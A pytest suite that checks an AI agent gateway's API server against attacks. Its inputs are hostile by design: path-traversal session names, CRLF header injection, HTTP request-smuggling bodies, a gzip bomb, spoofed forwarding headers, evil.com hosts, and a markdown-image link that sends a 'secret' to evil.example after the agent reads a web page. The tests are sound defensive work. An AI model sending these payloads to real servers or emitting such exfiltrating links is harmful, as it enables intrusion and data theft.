"""What must not get through the API server's listener: T1 to T5, T22, T24, T26. Nothing does."""

import asyncio
import contextlib
import gzip
import json
import logging
import socket
from pathlib import Path

import pytest

from hermes.core.messages import Message, Provenance, Role, Source, TextPart
from hermes.gateway.http.server import HttpServer, HttpServerLimits
from hermes.gateway.platforms.api_server import requests
from hermes.testing.home import TempHome
from hermes.testing.script import Call, ReplyDelivery, Say, ScriptedModel
from hermes.testing.server import ScriptedServer
from hermes.util.hosts import is_loopback
from tests.gateway.gateway_rig import running
from tests.gateway.platforms.api_server_rig import Api, api, free_port, fresh_key

pytestmark = pytest.mark.slow

ASK = {"model": "hermes", "messages": [{"role": "user", "content": "x"}]}


async def raw(it: Api, request: bytes) -> bytes:
    """Bytes as they are, and what comes back until the server closes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", it.port)
    writer.write(request)
    with contextlib.suppress(ConnectionError):
        await writer.drain()
    try:
        async with asyncio.timeout(60):
            return await reader.read(100_000)
    finally:
        writer.close()


def post(it: Api, body: bytes, **headers: str) -> bytes:
    sent = {"Host": f"127.0.0.1:{it.port}", "Authorization": f"Bearer {it.key}", "Content-Type": "application/json"}
    sent |= {"Content-Length": str(len(body)), "Connection": "close"}
    sent |= {name.replace("_", "-"): value for name, value in headers.items()}
    head = "".join(f"{name}: {value}\r\n" for name, value in sent.items() if value)
    return f"POST /v1/chat/completions HTTP/1.1\r\n{head}\r\n".encode("utf-8", "surrogateescape") + body


async def refused(options: dict[str, object]) -> str:
    """What a gateway says of an API server that it does not start."""
    async with ScriptedServer([]) as model:
        account = {"port": 0, **options}
        with TempHome.for_server(model.url, more_config={"platforms": {"api_server": account}}) as home:
            async with running(home) as it:
                assert it.gateway.accounts["api_server"].health == "refused"
                return "\n".join(it.lines)


@pytest.mark.parametrize(
    "options",
    [
        {},
        {"host": "0.0.0.0"},
        {"host": "::"},
        {"host": "0.0.0.0", "key": "short"},
        {"key": "fifteen-letters"},
        {"key": "with a space in between"},
        {"keys": [{"key": "k" * 32, "name": "a"}, {"key": "k" * 32, "name": "b"}]},
        {"keys": [{"key": "k" * 32, "name": "a"}, {"key": "l" * 32, "name": "a"}]},
    ],
    ids=str,
)
async def test_it_does_not_listen_without_a_good_key(options: dict[str, object]) -> None:
    said = await refused(options)
    assert "key" in said
    assert "k" * 32 not in said


@pytest.mark.parametrize(
    ("host", "own"),
    [
        *((name, True) for name in ("127.0.0.1", "127.9.9.9", "localhost", "LOCALHOST", "::1", "[::1]")),
        *((name, False) for name in ("127.0.0.1.evil.com", "0.0.0.0", "::", "10.0.0.1", "127.0.0.256", "127.1", "")),
    ],
)
def test_what_is_loopback(host: str, own: bool) -> None:
    assert is_loopback(host) is own


@pytest.mark.parametrize(
    "host",
    [
        "evil.com",
        "evil.com:8642",
        "127.0.0.1.evil.com",
        "localhost.evil.com",
        "127.0.0.1@evil.com",
        "",
        "0.0.0.0",
        "a:b:c",
    ],
)
async def test_foreign_hosts_are_refused(host: str) -> None:
    async with api([]) as it:
        told = await raw(it, post(it, json.dumps(ASK).encode(), Host=host))
        assert told[9:12] in (b"403", b"400")
        assert not it.model.requests


@pytest.mark.parametrize(
    "origin",
    ["null", "https://evil.com", "http://127.0.0.1:8642", "https://good.example.evil.com", "HTTPS://GOOD.EXAMPLE"],
)
async def test_foreign_origins_are_refused(origin: str) -> None:
    async with api([], cors=["https://good.example"]) as it:
        for method, path in (("POST", "/v1/chat/completions"), ("GET", "/health"), ("OPTIONS", "/v1/models")):
            async with it.http.request(method, f"{it.url}{path}", headers={"Origin": origin}) as answer:
                assert answer.status == 403
                assert "Access-Control-Allow-Origin" not in answer.headers
        two = post(it, json.dumps(ASK).encode(), Origin="https://good.example\r\nOrigin: https://evil.com")
        assert (await raw(it, two)).startswith(b"HTTP/1.1 403")


async def test_an_allowed_page_gets_exactly_its_own_origin() -> None:
    origin = "https://good.example"
    async with api([Say("hi")], cors=[origin]) as it:
        async with it.http.options(f"{it.url}/v1/chat/completions", headers={"Origin": origin}) as answer:
            assert answer.status == 204
            assert answer.headers["Access-Control-Allow-Origin"] == origin
            assert "Access-Control-Allow-Credentials" not in answer.headers
        headers = {"Origin": origin, "Authorization": f"Bearer {it.key}"}
        async with it.http.post(f"{it.url}/v1/chat/completions", json=ASK, headers=headers) as answer:
            assert answer.status == 200
            assert (answer.headers["Access-Control-Allow-Origin"], answer.headers["Vary"]) == (origin, "Origin")
            assert "X-Hermes-Event-Schema" in answer.headers["Access-Control-Expose-Headers"]
        async with it.http.options(f"{it.url}/v1/models") as answer:
            assert answer.status == 405


PATHS = [
    *(("GET", path) for path in ("/v1/models", "/v1/models/hermes", "/v1/capabilities", "/v1/skills", "/v1/toolsets")),
    *(("GET", path) for path in ("/metrics", "/health/detailed", "/api/jobs", "/v1/sessions", "/v1/runs/x")),
    *(("POST", path) for path in ("/v1/chat/completions", "/v1/responses", "/v1/runs", "/api/jobs", "/v1/sessions")),
    *(("POST", path) for path in ("/v1/runs/x/stop", "/v1/runs/x/approval", "/v1/sessions/x/chat", "/nothing/here")),
    *(("DELETE", path) for path in ("/v1/sessions/x", "/v1/responses/x", "/api/jobs/x")),
]


async def test_nothing_is_answered_without_a_key() -> None:
    """Coming from this machine is no authority, and a key counts in its header only."""
    async with api([]) as it:
        for method, path in PATHS:
            for headers in (
                {},
                {"X-Forwarded-For": "127.0.0.1", "Forwarded": "for=127.0.0.1", "X-Real-IP": "127.0.0.1"},
                {"Authorization": f"Basic {it.key}"},
                {"Authorization": f"Bearer {it.key[:-1]}"},
                {"Authorization": f"Bearer {it.key}x"},
                {"Authorization": "Bearer "},
                {"Authorization": f"Bearer {it.key.upper()}"},
                {"X-API-Key": it.key},
                {"Cookie": f"key={it.key}"},
            ):
                at = f"{it.url}{path}?key={it.key}&api_key={it.key}&access_token={it.key}"
                async with it.http.request(method, at, json={}, headers=headers) as answer:
                    assert answer.status == 401, (method, path, headers)
                    text = await answer.text()
                    assert it.key not in text
                    said = "not valid here" if "Authorization" in headers else "A key is needed"  # L1
                    assert not text or said in text
        assert (await it.ask("GET", "/health", key=""))[0] == 200


async def test_a_key_is_good_for_its_scopes_only() -> None:
    needs = {
        "chat": [("POST", "/v1/chat/completions"), ("POST", "/v1/responses"), ("GET", "/v1/responses/x")],
        "runs": [
            ("POST", "/v1/runs"),
            ("GET", "/v1/runs/x"),
            ("GET", "/v1/runs/x/events"),
            ("POST", "/v1/runs/x/stop"),
        ],
        "sessions": [("GET", "/v1/sessions"), ("POST", "/v1/sessions/x/chat"), ("DELETE", "/v1/sessions/x")],
        "jobs": [("GET", "/api/jobs"), ("POST", "/api/jobs"), ("POST", "/api/jobs/x/run")],
        "admin": [("GET", "/metrics"), ("GET", "/health/detailed"), ("GET", "/v1/skills"), ("GET", "/v1/toolsets")],
    }
    given = {scope: fresh_key() for scope in needs}
    keys = [{"key": key, "name": scope, "scopes": [scope]} for scope, key in given.items()]
    async with api([], keys=keys) as it:
        for scope, key in given.items():
            for other, paths in needs.items():
                for method, path in paths:
                    if scope != other:
                        assert (await it.ask(method, path, {}, key=key))[0] == 403, (scope, method, path)
        assert not it.model.requests


async def test_a_guest_has_no_tools_that_touch_the_machine() -> None:
    guest = fresh_key()
    keys = [{"key": guest, "name": "g", "role": "guest"}]
    calls = (Call("terminal", {"command": "touch x"}), Call("write_file", {"path": "y", "content": "z"}))
    async with api([Say(calls=calls), Say("no")], keys=keys) as it:
        assert (await it.ask("POST", "/v1/chat/completions", ASK, key=guest))[0] == 200
        assert '"terminal","description' not in it.model.requests[0].body.decode()
        assert not [*(it.home.hermes / "workspace").iterdir()]


async def test_one_key_finds_nothing_of_another() -> None:
    other = fresh_key()
    keys = [{"key": other, "name": "o", "scopes": ["chat", "runs", "sessions", "approve"]}]
    async with api(ScriptedModel(lambda request: Say("secret answer")), keys=keys) as it:
        _, response = await it.ask("POST", "/v1/responses", {"input": "mine"})
        _, run = await it.ask("POST", "/v1/runs", {"input": "mine", "session_id": "s"}, Idempotency_Key="k")
        _, second = await it.ask(
            "POST", "/v1/runs", {"input": "mine", "session_id": "s"}, key=other, Idempotency_Key="k"
        )
        assert second["id"] != run["id"]
        _, listed = await it.ask("GET", "/v1/sessions", key=other)
        assert [row["id"] for row in listed["data"]] in ([], ["s"])  # type: ignore[attr-defined]
        live = [one.actor.session_id for one in it.gateway.pool.live_sessions]
        for method, path, body in (
            ("GET", f"/v1/responses/{response['id']}", None),
            ("DELETE", f"/v1/responses/{response['id']}", None),
            ("POST", f"/v1/responses/{response['id']}/cancel", {}),
            ("POST", "/v1/responses", {"input": "x", "previous_response_id": response["id"]}),
            ("GET", f"/v1/runs/{run['id']}", None),
            ("GET", f"/v1/runs/{run['id']}/events", None),
            ("POST", f"/v1/runs/{run['id']}/stop", {}),
            ("POST", f"/v1/runs/{run['id']}/approval", {"approval_id": "x", "decision": "once"}),
            *(("GET", f"/v1/sessions/{one}", None) for one in live),
            *(("DELETE", f"/v1/sessions/{one}", None) for one in live),
            *(("POST", f"/v1/sessions/{one}/fork", {}) for one in live),
        ):
            assert (await it.ask(method, path, body, key=other))[0] == 404, path
        # The same words, said under another key, lead into no session of the first.
        history = [{"role": "user", "content": "mine"}, {"role": "assistant", "content": "secret answer"}]
        before = len(it.gateway.pool)
        await it.ask("POST", "/v1/chat/completions", {"messages": [*history, ASK["messages"][0]]}, key=other)
        assert len(it.gateway.pool) == before + 1


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "..%2f..%2fetc", "a/b", "x" * 200, "a\x00b", "a%0d%0aX: y", "天气", " ", "."],
    ids=ascii,
)
async def test_names_lead_nowhere(name: str) -> None:
    """A session's name is never a file's: it is looked up, and a fresh session has an id of our own."""
    async with api([Say("hi")]) as it:
        before = sorted(Path(it.home.root).rglob("*"))
        body = {"input": "x", "session_id": name}
        status, _ = await it.ask("POST", "/v1/runs", body)
        assert status in (202, 400)
        fresh = [one.name for one in set(Path(it.home.root).rglob("*")) - set(before)]
        assert not [one for one in fresh if "passwd" in one or "etc" in one or (name in one and len(name) > 1)]


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""])
async def test_forms_and_plain_text_are_refused(kind: str) -> None:
    async with api([]) as it:
        told = await raw(it, post(it, json.dumps(ASK).encode(), Content_Type=kind))
        assert told.startswith(b"HTTP/1.1 415")
        assert not it.model.requests


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"[" * 100_000, 400),
        (b'{"messages":' + b"[" * 500 + b"]" * 500 + b"}", 400),
        (b'{"messages": [{"role": "user", "content": "\xff\xfe"}]}', 400),
        (b'{"messages": [{"role": "user", "content": "\\ud83d"}]}', 400),
        (b'{"messages": [{"role": "user", "content": 1e999}]}', 400),
        (b"\x1f\x8b\x08", 400),
        (b"", 400),
        (b"x" * 20_000, 413),
    ],
    ids=range(8),
)
async def test_bad_bodies_are_refused(body: bytes, status: int) -> None:
    async with api([], body_limit=16_384 if status == 413 else 1_000_000) as it:
        assert (await raw(it, post(it, body))).startswith(b"HTTP/1.1 %d" % status)
        assert (await it.ask("GET", "/health"))[0] == 200


async def test_a_gigabyte_is_refused_by_its_length_and_by_its_pieces() -> None:
    async with api([], body_limit=16_384) as it:
        head = post(it, b"", Content_Length="1073741824")
        assert (await raw(it, head)).startswith(b"HTTP/1.1 413")
        chunked = post(it, b"", Content_Length="", Transfer_Encoding="chunked")
        assert (await raw(it, chunked + (b"2000\r\n" + b"x" * 0x2000 + b"\r\n") * 3)).startswith(b"HTTP/1.1 413")


async def test_a_small_body_does_not_become_a_large_one() -> None:
    packed = gzip.compress(json.dumps(ASK).encode() + b" " * 50_000_000)
    async with api([]) as it:
        assert (await raw(it, post(it, packed, Content_Encoding="gzip")))[9:12] == b"415"
        assert not it.model.requests


async def test_smuggled_requests_are_refused() -> None:
    async with api([]) as it:
        both = post(it, b"0\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n", Transfer_Encoding="chunked")
        assert (await raw(it, both))[9:12] == b"400"
        twice = post(it, b"{}", Content_Length="2\r\nContent-Length: 40")
        assert (await raw(it, twice))[9:12] == b"400"


async def test_slow_senders_are_let_go(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(requests, "READ_SECONDS", 0.2)
    async with api([]) as it:
        assert (await raw(it, post(it, b"{", Content_Length="100"))).startswith(b"HTTP/1.1 408")


async def test_connections_that_say_nothing_are_closed_and_too_many_are_turned_away() -> None:
    from aiohttp import web

    async def connect(listener: HttpServer, count: int) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        return [await asyncio.open_connection("127.0.0.1", listener.port) for _ in range(count)]

    patient, hasty = (
        HttpServer(web.Application(), HttpServerLimits(host="127.0.0.1", port=0, connections=20, idle_seconds=seconds))
        for seconds in (600, 0.3)
    )
    await patient.open()
    await hasty.open()
    try:
        lines = await connect(patient, 40)
        async with asyncio.timeout(60):
            told = [await reader.read() for reader, _ in lines[20:]]
        assert sum(b"503" in one for one in told) == patient.rejected_connections == 20
        assert patient.connections == 20
        lines += (silent := await connect(hasty, 20))
        for _, writer in silent[:10]:
            writer.write(b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        async with asyncio.timeout(60):
            for reader, _ in silent:
                await reader.read()
        assert (hasty.connections, hasty.rejected_connections) == (0, 0)
        for _, writer in lines:
            writer.close()
    finally:
        await patient.close()
        await hasty.close()


async def test_too_many_turns_are_told_to_come_again() -> None:
    async with api([Say("word " * 100, delivery=ReplyDelivery(pace=0.1)), Say("x")], turns=1) as it:
        async with await it.stream("POST", "/v1/chat/completions", {**ASK, "stream": True}) as first:
            await first.until("data:")
            for path, body in (
                ("/v1/chat/completions", ASK),
                ("/v1/responses", {"input": "x"}),
                ("/v1/runs", {"input": "x"}),
            ):
                async with it.http.post(
                    f"{it.url}{path}", json=body, headers={"Authorization": f"Bearer {it.key}"}
                ) as answer:
                    assert answer.status == 429
                    assert answer.headers["Retry-After"]
        await it.until(lambda: not it.gateway.pool.working_count)
        assert (await it.ask("POST", "/v1/chat/completions", ASK))[0] == 200


async def test_a_role_has_its_turns_of_an_hour() -> None:
    guest = fresh_key()
    keys = [{"key": guest, "name": "g", "role": "guest"}]
    more = {"gateway": {"roles": {"guest": {"turns_per_hour": 2}}}}
    async with api(ScriptedModel(lambda request: Say("x")), more=more, keys=keys) as it:
        asked = [("/v1/chat/completions", ASK), ("/v1/responses", {"input": "x"}), ("/v1/runs", {"input": "x"})]
        told = [(await it.ask("POST", path, body, key=guest))[0] for path, body in (*asked, *asked)]
        assert told == [200, 200, 429, 429, 429, 429]
        assert (await it.ask("POST", "/v1/sessions/s/chat", {"input": "x"}, key=guest))[0] == 429
        assert (await it.ask("POST", "/v1/chat/completions", ASK))[0] == 200


async def test_keys_are_found_nowhere_we_write(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    async with api(ScriptedModel(lambda request: Say("fine"))) as it:
        words = [{"role": "user", "content": f"my key is {it.key}"}]
        await it.ask("POST", "/v1/chat/completions", {"messages": words})
        await it.ask("POST", "/v1/runs", {"input": f"again {it.key}"})
        await it.ask("GET", f"/v1/models?key={it.key}")
        await it.ask("GET", f"/{it.key}")
        await it.until(lambda: len(it.model.requests) == 2 and not it.gateway.pool.working_count)
        assert not [one for one in it.model.requests if it.key.encode() in one.body]
        for file in it.home.hermes.rglob("*"):
            if file.is_file() and file.name != "config.yaml":
                assert it.key.encode() not in file.read_bytes(), file
    assert it.key not in caplog.text


async def test_strangers_words_are_shown_so_that_nothing_is_fetched() -> None:
    """After a web page was read, an answer holds no picture of a host that nobody has named (T15)."""
    leak = "See ![x](https://evil.example/?q=secret) and more.\n\nThe end."
    async with api([Say(leak), Say(leak, chunk=3)]) as it:
        body = {**ASK, "messages": [{"role": "user", "content": "hi"}]}
        _, plain = await it.ask("POST", "/v1/chat/completions", body, X_Hermes_Session_Id="s")
        assert "![x](" in str(plain)
        entry = next(iter(it.gateway.pool.live_sessions))
        stranger = TextPart("read this", Provenance(Source.WEB, "https://evil.example"))
        it.gateway.app.live_session(entry.actor).tools.context.state.taint.add_message(
            Message(role=Role.USER, parts=(stranger,))
        )
        async with await it.stream(
            "POST", "/v1/chat/completions", {**body, "stream": True}, X_Hermes_Session_Id="s"
        ) as answer:
            told = await answer.rest()
        text = "".join(
            choice["delta"].get("content", "")
            for line in told.splitlines()
            if line.startswith("data: {")
            for choice in json.loads(line[6:])["choices"]
        )
        assert "![" not in text
        assert "`https://evil.example/?q=secret`" in text
        assert text.endswith("The end.")


async def test_a_port_that_is_taken_is_said_in_a_line() -> None:
    port = free_port()
    with socket.socket() as other:
        other.bind(("127.0.0.1", port))
        other.listen()
        async with ScriptedServer([]) as model:
            accounts = {"platforms": {"api_server": {"key": fresh_key(), "port": port}}}
            with TempHome.for_server(model.url, more_config=accounts) as home:
                async with running(home) as it:
                    assert any(f"Nothing can listen at 127.0.0.1:{port}" in line for line in it.lines)
